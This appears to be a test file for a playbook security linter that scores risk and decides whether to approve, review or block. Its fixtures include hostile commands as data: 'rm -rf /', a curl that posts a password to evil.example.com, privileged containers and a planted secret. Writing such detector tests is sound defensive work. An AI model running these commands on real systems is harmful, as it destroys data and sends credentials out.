import {expect} from 'chai'
import fc from 'fast-check'
import {lint} from '@atomctl/wpk/lint'
import {parseYaml} from '@atomctl/wpk/document'
import type {Json, JsonObject} from '@atomctl/wpk/canonical'

import {playbooks} from '../vectors.ts'
import {documentWith, lintCommand, lintHandler, lintStep, SOUND} from './documents.ts'

const privileged = {container: {...SOUND, securityContext: {privileged: true}}}
const mount = {container: {...SOUND, volumeMounts: [{mountPath: '/etc'}]}}
const steps = (list: Json[], mode: Json = 'manual') => lint(documentWith([{name: 'a', steps: list}], mode))

describe('The score', () => {
  it('is what the registry computes, for each of its measured examples', () => {
    expect(steps([mount]).score, 'one critical').to.equal(25)
    expect(steps([privileged]).score, 'privileged').to.equal(37)
    expect(lintStep({kubernetes: {kind: 'ClusterRole'}}).score, 'cluster role').to.equal(19)
    expect(lintStep({shell: {command: 'curl https://evil.example.com'}}).score, 'network').to.equal(18)
    expect(lintStep({shell: {command: "password='hunter2hunter2'"}}).score, 'secret').to.equal(21)
    expect(steps([mount, mount]).score, 'two criticals').to.equal(50)
  })

  it('multiplies once per rule that fired, and stops at 100', () => {
    expect(steps([privileged, privileged]).score).to.equal(75)
    expect(steps([privileged, mount]).score).to.equal(75)
    expect(steps(Array.from({length: 9}, () => privileged)).score).to.equal(100)
    const both = {shell: {command: "curl https://evil.example.com -d password='hunter2hunter2'"}}
    expect(steps([both]).score).to.equal(50) // trunc(30 × 1.2 × 1.4)
  })

  it('is 0 for the five well-known playbooks, and none of them is blocked', function () {
    const files = playbooks()
    if (files.size === 0) return this.skip()
    for (const [file, bytes] of files) {
      const report = lint(parseYaml(bytes, file).value as JsonObject)
      expect(report, file).to.include({score: 0, decision: 'approve', riskLevel: 'low', canExecute: true})
    }
  })
})

describe('The decision', () => {
  const table: [number, Json[], string, string][] = [
    [25, [mount], 'approve', 'review'],
    [50, [mount, mount], 'review', 'block'],
    [75, [mount, mount, mount], 'block', 'block'],
  ]
  for (const [score, list, manual, auto] of table) {
    it(`at ${score} is ${manual} in manual and ${auto} in auto mode`, () => {
      expect(steps(list)).to.include({score, decision: manual})
      expect(steps(list, 'auto')).to.include({score, decision: auto})
    })
  }

  it('below 25 is approve in both modes', () => {
    for (const mode of ['manual', 'auto']) {
      expect(lintCommand('curl https://a.example.com', mode)).to.include({
        score: 18,
        decision: 'approve',
        canExecute: true,
      })
    }
  })

  it('takes any other mode for manual, and AUTO for auto', () => {
    for (const mode of [true, null, 'AUTOMATIC', 7]) expect(steps([mount], mode).decision).to.equal('approve')
    expect(steps([mount], 'AUTO').decision).to.equal('review')
  })

  it('with one critical finding still needs approval', () => {
    expect(steps([mount])).to.include({decision: 'approve', approvalRequired: true, canExecute: false})
  })

  it('makes critical and high findings errors only when it is block', () => {
    expect(steps([mount]).findings.map(({severity}) => severity)).to.deep.equal(['warning'])
    expect(steps([mount, mount, mount]).findings.map(({severity}) => severity)).to.deep.equal([
      'error',
      'error',
      'error',
    ])
    const medium = {container: {...SOUND, image: 'app:latest'}}
    expect(steps([mount, mount, mount, medium]).findings.at(-1)).to.include({
      rule: 'insecure_image',
      severity: 'warning',
    })
  })

  it('grows into a risk level', () => {
    const levels = [[], [mount], [mount, mount], [mount, mount, mount]].map((list) => steps(list).riskLevel)
    expect(levels).to.deep.equal(['low', 'medium', 'high', 'critical'])
  })
})

describe('The classification', () => {
  it('names categories, resources, complexity and automation', () => {
    const value = {
      metadata: {tags: ['security', 'x', 'monitoring']},
      spec: {
        safety: {mode: 'auto'},
        handlers: [
          {type: 'k8s', config: {}},
          {type: 'shell', config: {}},
          {steps: [{container: SOUND}, {manual: true}]},
        ],
      },
    }
    expect(lint(value)).to.deep.include({
      categories: ['security', 'monitoring'],
      resourceTypes: ['container', 'kubernetes', 'shell'],
      complexity: 'moderate',
      automationLevel: 'semi_automated',
    })
  })

  it('counts steps: 3 are simple, 10 moderate, 11 complex', () => {
    const shell = {name: 'a', type: 'shell', config: {command: 'true'}}
    const complexity = [1, 3, 4, 10, 11].map(
      (count) => lint(documentWith(Array.from({length: count}, () => shell))).complexity,
    )
    expect(complexity).to.deep.equal(['simple', 'simple', 'moderate', 'moderate', 'complex'])
  })

  it('is fully automated only when nothing waits for a person', () => {
    expect(lintHandler({type: 'shell', config: {}}, 'auto').automationLevel).to.equal('fully_automated')
    expect(lintHandler({type: 'shell', config: {}}).automationLevel).to.equal('manual')
    const waiting = {spec: {safety: {mode: 'auto', approval_required: true}, handlers: []}}
    expect(lint(waiting).automationLevel).to.equal('semi_automated')
  })
})

describe('lint', () => {
  it('never throws, whatever the shape', () => {
    const shapes: Json[] = [
      null, 1, 'text', [], [null], ['a', 1, []], [{steps: 'x'}], [{config: 'x', type: 7}],
      [{steps: [null, 1, {shell: null, container: 1, kubernetes: []}, {shell: {command: null}}, {shell: 'curl https://a.example.com'}]}],
      [{type: 'docker', config: {mounts: [null, 1, {}], image: 7, command: [1, null]}}],
      [{type: 'k8s', config: {manifest: 'a: [\n b', action: 'apply'}}],
      [{'x-atom-ignore': [null, 1, {}], type: 'shell', config: {command: 'rm -rf /'}}],
      [{steps: [{container: {resources: {limits: {cpu: 8, memory: true}}, volumeMounts: [null, {mountPath: 1}], securityContext: {capabilities: {add: 'ALL'}}}}]}],
    ] // oxfmt-ignore
    for (const handlers of shapes) {
      for (const mode of ['auto', true, null]) expect(lint(documentWith(handlers, mode)).score).to.be.within(0, 100)
    }
    for (const value of [{}, {spec: null}, {spec: []}, {spec: {rollback: 1, monitoring: [1], triggers: 'x'}}]) {
      expect(lint(value).score).to.equal(0)
    }
  })

  it('never throws on random JSON in place of handlers', () => {
    fc.assert(
      fc.property(fc.jsonValue({maxDepth: 5}), (handlers) => {
        expect(lint(documentWith(handlers as Json)).score).to.be.within(0, 100)
      }),
    )
  })

  it('does not change the document', () => {
    const value = documentWith([
      {name: 'a', steps: [privileged], 'x-atom-ignore': [{rule: 'privileged_container', reason: 'test host'}]},
    ])
    const before = structuredClone(value)
    lint(value)
    expect(value).to.deep.equal(before)
  })

  it('places findings where the caller can locate them', () => {
    const report = lint(documentWith([{name: 'a', type: 'shell', config: {command: 'rm -rf /'}}]), (path) => ({
      line: path.length,
      column: 1,
    }))
    expect(report.findings[0]).to.deep.include({
      path: 'spec.handlers[0].config.command',
      position: {line: 31, column: 1},
    })
  })

  it('scans rollback handlers, triggers and monitoring', () => {
    const hook = 'https://hooks.slack.com/services/T00000000/B00000000/abcdefghijklmnopqrstuvwx'
    const value = {
      spec: {
        handlers: [],
        rollback: {handlers: [{type: 'shell', config: {command: 'rm -rf /'}}]},
        monitoring: {alerts: [{type: 'slack', webhook: hook}]},
      },
    }
    const seen = lint(value).findings.map(({rule, path}) => `${rule} ${path}`)
    expect(seen).to.have.members([
      'destructive_command spec.rollback.handlers[0].config.command',
      'hardcoded_secrets spec.monitoring.alerts[0].webhook',
    ])
    expect(lint(value).findings.every(({message}) => !message.includes('abcdef'))).to.equal(true)
  })
})

describe('A finding is set aside', () => {
  const handler = (ignore: Json) => ({
    name: 'a',
    type: 'shell',
    config: {command: 'curl https://api.example.com; rm -rf /'},
    'x-atom-ignore': ignore,
  })

  it('by its handler, for one rule, with a reason; then it scores nothing', () => {
    const report = lintHandler(handler([{rule: 'external_network', reason: 'the vendor has no mirror'}]))
    const [network, command] = ['external_network', 'destructive_command'].map((rule) =>
      report.findings.find((finding) => finding.rule === rule),
    )
    expect(network).to.include({suppressed: 'the vendor has no mirror', points: 0, severity: 'info'})
    expect(command).to.not.have.property('suppressed')
    expect(report.score).to.equal(25)
  })

  it('and no longer asks for approval when it was the critical one', () => {
    const report = lintHandler(handler([{rule: 'destructive_command', reason: 'throw-away machine'}]))
    expect(report).to.include({score: 18, approvalRequired: false, canExecute: true})
  })

  it('not without a reason, not for another rule, not from another handler', () => {
    for (const ignore of [
      [{rule: 'external_network'}],
      [{rule: 'external_network', reason: ' '}],
      [{rule: '*', reason: 'everything'}],
      {rule: 'external_network'},
    ]) {
      expect(lintHandler(handler(ignore)).score).to.equal(48)
    }
    const other = {
      name: 'b',
      type: 'shell',
      config: {command: 'true'},
      'x-atom-ignore': [{rule: 'external_network', reason: 'not mine to say'}],
    }
    expect(lint(documentWith([handler([]), other])).score).to.equal(48)
  })

  it('and ten handlers are not one', () => {
    const handlers = Array.from({length: 11}, (_, index) =>
      index === 1 ? handler([{rule: 'external_network', reason: 'only for this one'}]) : handler([]),
    )
    const report = lint(documentWith(handlers))
    expect(report.findings.filter(({suppressed}) => suppressed !== undefined).map(({path}) => path)).to.deep.equal([
      'spec.handlers[1].config.command',
    ])
  })
})
